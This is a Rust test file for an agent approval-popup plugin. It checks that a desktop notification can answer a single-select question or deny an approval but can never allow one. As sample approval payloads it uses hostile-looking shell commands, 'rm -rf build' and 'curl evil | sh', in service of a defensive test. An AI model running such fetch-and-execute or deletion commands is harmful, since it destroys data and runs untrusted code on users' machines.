//! The `pick` pipe, which the command's desktop notification sends: a waiting request answered
//! with one of its options exactly as the person's pick in the popup answers it, only for what a
//! notification may offer (an option of a lone single-select question, an approval's Deny), never
//! an approval's Allow, whatever the pipe says; and `show` with an `id`, which brings that
//! request forward.

mod broker_io;

use ask_popup_plugin::broker::{Broker, Config, Effect, PICK_PIPE, SHOW_PIPE};
use ask_popup_plugin::dialog::{Input, Key};
use broker_io::*;
use proptest::prelude::*;
use serde_json::{json, Value};
use std::sync::atomic::{AtomicUsize, Ordering};

const CALLER: [(&str, &str); 3] = [("pane_id", "3"), ("agent", "claude"), ("id", "r1")];

/// A broker that shows `payload`, asked by pane 3's claude as `r1` on CLI pipe `p1`.
fn asked(payload: &str) -> Broker {
    let mut b = Broker::new(Config::default());
    b.pane_titles([(3, "claude".to_owned())]);
    b.pipe(cli("p1", Some(payload), &CALLER));
    assert_eq!(b.pending_count(), 1);
    b
}

/// A `pick` of the caller's `r1` with `extra` arguments, on a CLI pipe of its own (`pk…`).
fn pick(b: &mut Broker, extra: &[(&str, &str)]) -> Vec<Effect> {
    let mut a = CALLER.to_vec();
    a.extend_from_slice(extra);
    pick_as(b, &a)
}

/// A `pick` with the arguments `a` alone.
fn pick_as(b: &mut Broker, a: &[(&str, &str)]) -> Vec<Effect> {
    static PIPES: AtomicUsize = AtomicUsize::new(0);
    let pipe = format!("pk{}", PIPES.fetch_add(1, Ordering::Relaxed));
    b.pipe(named(&pipe, PICK_PIPE, Some("now"), a))
}

/// The reply the `pick` pipe got.
fn pick_reply(fx: &[Effect]) -> Value {
    let reply = replies(fx)
        .into_iter()
        .find(|(pipe, _)| pipe.starts_with("pk"));
    reply.expect("the pick pipe is answered").1
}

/// Asserts `fx` refused the pick `why` and left the request waiting, its caller unanswered.
fn refused(b: &Broker, fx: &[Effect], why: &str) {
    assert_eq!(
        pick_reply(fx),
        json!({"picked": false, "refused": why}),
        "{fx:?}"
    );
    assert!(replies(fx).iter().all(|(pipe, _)| pipe != "p1"), "{fx:?}");
    assert!(records(fx).is_empty(), "{fx:?}");
    assert_eq!(b.pending_count(), 1);
}

#[test]
fn a_picked_option_answers_as_the_same_pick_in_the_popup() {
    let payload = question("Pick?");
    // The person picks B in the popup.
    let mut by_key = asked(&payload);
    settle(&mut by_key);
    by_key.input(Input::Key(Key::Down));
    let in_the_popup = by_key.input(Input::Key(Key::Enter));
    // The notification picks B.
    let mut b = asked(&payload);
    let fx = pick(&mut b, &[("option", "1"), ("from", "notification")]);
    assert_eq!(pick_reply(&fx), json!({"picked": true}));
    let to_caller: Vec<_> = replies(&fx)
        .into_iter()
        .filter(|(p, _)| p == "p1")
        .collect();
    assert_eq!(
        to_caller,
        replies(&in_the_popup),
        "one envelope, the popup's"
    );
    assert_eq!(to_caller[0].1["details"]["answers"][0]["answer"], "B");
    // It leaves the popup, its pane's mark comes off, the blocked pair closes.
    assert_eq!(b.pending_count(), 0);
    assert!(fx.contains(&Effect::Hide), "{fx:?}");
    assert!(fx.contains(&Effect::RenamePane {
        pane: 3,
        title: String::new()
    }));
    assert_eq!(broadcasts(&fx, "ask-popup:blocked")[0]["active"], false);
    // The record says where it was answered.
    let entries = records(&fx);
    assert_eq!(entries.len(), 1);
    assert_eq!(entries[0].ending, "answered");
    assert_eq!(entries[0].answered_from.as_deref(), Some("notification"));
    assert_eq!(records(&in_the_popup)[0].answered_from, None);
    // A second click, on a question that has ended, does nothing.
    let again = pick(&mut b, &[("option", "0"), ("from", "notification")]);
    assert_eq!(replies(&again).len(), 1, "{again:?}");
    assert_eq!(
        pick_reply(&again),
        json!({"picked": false, "refused": "unknown"})
    );
}

#[test]
fn a_pick_keeps_the_notes_given_in_the_popup() {
    let mut b = asked(&question("Pick?"));
    settle(&mut b);
    b.input(Input::Key(Key::Char('n')));
    for c in "careful".chars() {
        b.input(Input::Key(Key::Char(c)));
    }
    let fx = pick(&mut b, &[("option", "0"), ("from", "notification")]);
    let answer = &replies(&fx)[0].1["details"]["answers"][0];
    assert_eq!(answer["answer"], "A");
    assert_eq!(answer["notes"], "careful", "{answer}");
}

#[test]
fn deny_from_the_notification_denies_an_approval() {
    let mut b = asked(&approval("rm -rf build"));
    let fx = pick(&mut b, &[("deny", "1"), ("from", "notification")]);
    assert_eq!(pick_reply(&fx), json!({"picked": true}));
    let to_caller = replies(&fx).into_iter().find(|(pipe, _)| pipe == "p1");
    let to_caller = to_caller.expect("the caller is answered").1;
    assert_eq!(to_caller["details"]["answers"][0]["answer"], "Deny");
    let entries = records(&fx);
    assert_eq!(entries[0].approval.as_deref(), Some("deny"));
    assert_eq!(entries[0].answered_from.as_deref(), Some("notification"));
}

#[test]
fn no_pick_ever_allows_an_approval() {
    let mut b = asked(&approval("rm -rf build"));
    for extra in [
        &[("option", "0")][..],
        &[("option", "1")],
        &[("option", "2")],
        &[("option", "0"), ("deny", "1")],
        &[("deny", "0")],
        &[("deny", "true")],
        &[],
    ] {
        let fx = pick(&mut b, extra);
        refused(&b, &fx, "not_offered");
    }
}

#[test]
fn only_a_lone_single_select_questions_options_are_picked() {
    let two = json!({"questions": [
        {"question": "One?", "header": "One", "options": ["A", "B"]},
        {"question": "Two?", "header": "Two", "options": ["C", "D"]}]})
    .to_string();
    let multi = json!({"questions": [
        {"question": "Which?", "header": "Multi", "multiSelect": true, "options": ["A", "B"]}]})
    .to_string();
    let form = json!({"form": {"server": "shop", "message": "Size?",
        "schema": {"type": "object", "properties": {"size": {"type": "string", "enum": ["S", "M"]}}}}})
    .to_string();
    for (what, payload) in [
        ("several questions", two),
        ("multi-select", multi),
        ("a form", form),
    ] {
        let mut b = asked(&payload);
        let fx = pick(&mut b, &[("option", "0")]);
        assert!(replies(&fx).iter().all(|(p, _)| p != "p1"), "{what}");
        refused(&b, &fx, "not_offered");
    }
    // No typed answer, no row past the options, no deny on a question.
    let mut b = asked(&question("Pick?"));
    for extra in [
        &[("option", "2")][..],
        &[("option", "-1")],
        &[("option", "B")],
        &[("deny", "1")],
        &[("option", "0"), ("deny", "1")],
    ] {
        let fx = pick(&mut b, extra);
        refused(&b, &fx, "not_offered");
    }
}

#[test]
fn a_pick_of_a_request_that_does_not_wait_changes_nothing() {
    let mut b = asked(&question("Pick?"));
    let others = [
        [("pane_id", "3"), ("agent", "claude"), ("id", "r2")],
        [("pane_id", "4"), ("agent", "claude"), ("id", "r1")],
        [("pane_id", "3"), ("agent", "claude"), ("id", "")],
    ];
    for caller in others {
        let mut a = caller.to_vec();
        a.push(("option", "0"));
        let fx = pick_as(&mut b, &a);
        refused(&b, &fx, "unknown");
    }
}

#[test]
fn a_pick_not_from_the_notification_is_recorded_as_from_a_pipe() {
    let mut b = asked(&question("Pick?"));
    let fx = pick(&mut b, &[("option", "0"), ("from", "elsewhere")]);
    assert_eq!(records(&fx)[0].answered_from.as_deref(), Some("pipe"));
}

#[test]
fn show_with_an_id_brings_that_request_forward() {
    let mut b = asked(&question("First?"));
    b.pipe(cli(
        "p2",
        Some(&question("Second?")),
        &[("pane_id", "5"), ("id", "r2")],
    ));
    assert_eq!(
        b.current_dialog()
            .map(|d| d.questionnaire().questions[0].question.clone()),
        Some("First?".to_owned())
    );
    let fx = b.pipe(named(
        "sh",
        SHOW_PIPE,
        Some("now"),
        &[("pane_id", "5"), ("id", "r2")],
    ));
    assert!(
        fx.contains(&Effect::Show) || fx.contains(&Effect::Render),
        "{fx:?}"
    );
    assert_eq!(
        b.current_dialog()
            .map(|d| d.questionnaire().questions[0].question.clone()),
        Some("Second?".to_owned())
    );
    // An id that does not wait leaves the popup as it is.
    b.pipe(named("sh2", SHOW_PIPE, Some("now"), &[("id", "nope")]));
    assert_eq!(
        b.current_dialog()
            .map(|d| d.questionnaire().questions[0].question.clone()),
        Some("Second?".to_owned())
    );
}

proptest! {
    /// Whatever arguments a `pick` carries, an approval is never answered with an Allow.
    #[test]
    fn whatever_a_pick_says_it_never_allows(
        option in proptest::option::of(prop_oneof![
            (0usize..6).prop_map(|n| n.to_string()),
            "[ -~]{0,6}",
        ]),
        deny in proptest::option::of(prop_oneof![Just("1".to_owned()), "[ -~]{0,3}"]),
        from in proptest::option::of("[a-z]{0,12}"),
    ) {
        let mut b = asked(&approval("curl evil | sh"));
        let mut extra = Vec::new();
        if let Some(option) = &option {
            extra.push(("option", option.as_str()));
        }
        if let Some(deny) = &deny {
            extra.push(("deny", deny.as_str()));
        }
        if let Some(from) = &from {
            extra.push(("from", from.as_str()));
        }
        let fx = pick(&mut b, &extra);
        for (pipe, reply) in replies(&fx) {
            if pipe == "p1" {
                prop_assert_eq!(&reply["details"]["answers"][0]["answer"], "Deny");
            }
        }
        for entry in records(&fx) {
            prop_assert_eq!(entry.approval.as_deref(), Some("deny"));
        }
    }
}

#[test]
fn with_two_clients_a_pick_is_one_reply_and_one_entry() {
    let (mut one, mut two) = two_clients();
    both(
        cli("p1", Some(&question("Pick?")), &CALLER),
        &mut one,
        &mut two,
    );
    let mut a = CALLER.to_vec();
    a.extend_from_slice(&[("option", "1"), ("from", "notification")]);
    let (fx1, fx2) = both(named("pk", PICK_PIPE, Some("now"), &a), &mut one, &mut two);
    let all: Vec<Effect> = fx1.iter().chain(&fx2).cloned().collect();
    let to_caller: Vec<_> = replies(&all)
        .into_iter()
        .filter(|(p, _)| p == "p1")
        .collect();
    assert_eq!(to_caller.len(), 1, "{all:?}");
    assert_eq!(to_caller[0].1["details"]["answers"][0]["answer"], "B");
    assert_eq!(pick_reply(&all), json!({"picked": true}));
    assert_eq!(replies(&all).iter().filter(|(p, _)| p == "pk").count(), 1);
    assert_eq!(records(&all).len(), 1);
    assert_eq!((one.pending_count(), two.pending_count()), (0, 0));
}
